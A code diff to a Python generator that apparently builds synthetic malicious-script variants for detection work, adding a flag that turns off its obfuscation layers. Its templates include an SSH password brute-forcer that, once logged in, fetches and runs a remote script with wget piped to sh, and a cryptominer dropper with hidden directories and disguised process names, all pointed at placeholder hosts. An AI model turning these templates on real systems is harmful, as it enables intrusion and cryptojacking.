@@ -27,6 +27,9 @@ import zlib
 TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]
 KTHREADS = ["[kworker/0:1]", "[kswapd0]", "[ksoftirqd/1]", "[jbd2/sda1-8]", "/usr/sbin/httpd",
             "sshd: root@pts/0", "-bash", "/sbin/udevd -d", "[rcu_sched]", "crond"]
+# wrap_*() add an encoding layer only while this is true (scriptgen.py --plain
+# turns it off: how the techniques themselves are detected)
+WRAP = [True]
 WORDS = ["update", "cache", "sync", "helper", "agent", "client", "service", "worker", "tmp", "init"]
 
 
@@ -100,6 +103,8 @@ def _chunks(s, n, r):
 
 def wrap_perl(g, code):
     r = g.rng
+    if not WRAP[0]:
+        return code
     k = r.choice(["none", "none", "b64", "hex", "zlib", "rev"])
     if k == "none":
         return code
@@ -119,6 +124,8 @@ def wrap_perl(g, code):
 
 def wrap_python(g, code):
     r = g.rng
+    if not WRAP[0]:
+        return code
     k = r.choice(["none", "none", "b64", "zlib", "chr", "hex"])
     if k == "none":
         return code
@@ -136,6 +143,8 @@ def wrap_python(g, code):
 
 def wrap_shell(g, code):
     r = g.rng
+    if not WRAP[0]:
+        return code
     k = r.choice(["none", "none", "none", "b64", "evalb64", "gz", "rev"])
     if k == "none":
         return code
@@ -153,7 +162,7 @@ def wrap_shell(g, code):
 
 
 def wrap_js(g, code):
-    if g.rng.random() < 0.6:
+    if g.rng.random() < 0.6 or not WRAP[0]:
         return code
     g.transforms.add("js_b64")
     return "eval(Buffer.from('%s', 'base64').toString('utf8'));\n" % _b64(code)
@@ -161,6 +170,8 @@ def wrap_js(g, code):
 
 def wrap_ruby(g, code):
     r = g.rng
+    if not WRAP[0]:
+        return code
     k = r.choice(["none", "b64", "unpack"])
     if k == "none":
         return code
@@ -581,8 +592,7 @@ def try_one(%(t)s, %(u)s, %(pw)s):
     except Exception:
         return False
     open('%(ok)s', 'a').write('%%s %%s %%s\\n' %% (%(t)s, %(u)s, %(pw)s))
-    %(cl)s.exec_command('cd /tmp; wget -q http://%(h)s/x.sh -O- | sh')
-    %(cl)s.close()
+%(after)s    %(cl)s.close()
     return True
 
 hosts = [l.strip() for l in open(sys.argv[1])]
@@ -593,6 +603,8 @@ for %(t)s in hosts:
             break
 """
     v["h"] = _ip(r)
+    v["after"] = r.choice(["", "    %(cl)s.exec_command('uname -a; id')\n" % v,
+                           "    %(cl)s.exec_command('cd /tmp; wget -q http://%(h)s/x.sh -O- | sh')\n" % v])
     return _shebang(r, "py") + _comment(g, "#") + wrap_python(g, code % v)
 
 
@@ -759,7 +771,7 @@ def t_sh_miner(g):
     h = _ip(r)
     pool = r.choice(["stratum+tcp://%s:3333" % h, "stratum+ssl://pool.example.net:443",
                      "%s:14444" % h, "stratum+tcp://xmr.example.org:5555"])
-    wal = "4" + "".join(r.choice(string.ascii_letters + string.digits) for _ in range(94))
+    wal = "4" + r.choice("0123456789AB") + "".join(r.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(93))
     d = r.choice(["/tmp/.X11", "/var/tmp/.sys", "$HOME/.cache/.k", "/dev/shm/.m"])
     b = r.choice(["kthreadd", "xmr", "sysupdate", "kworkerds", "ld-linux"])
     k = r.choice(["cli", "config"])
@@ -1216,7 +1228,9 @@ def main():
     ap.add_argument("--out", required=True)
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--per", type=int, default=4)
+    ap.add_argument("--plain", action="store_true", help="no encoding layers")
     a = ap.parse_args()
+    WRAP[0] = not a.plain
     out = safe_out_dir(a.out)
     os.makedirs(out, exist_ok=True)
     with open(os.path.join(out, "variants.tsv"), "w") as tsv:
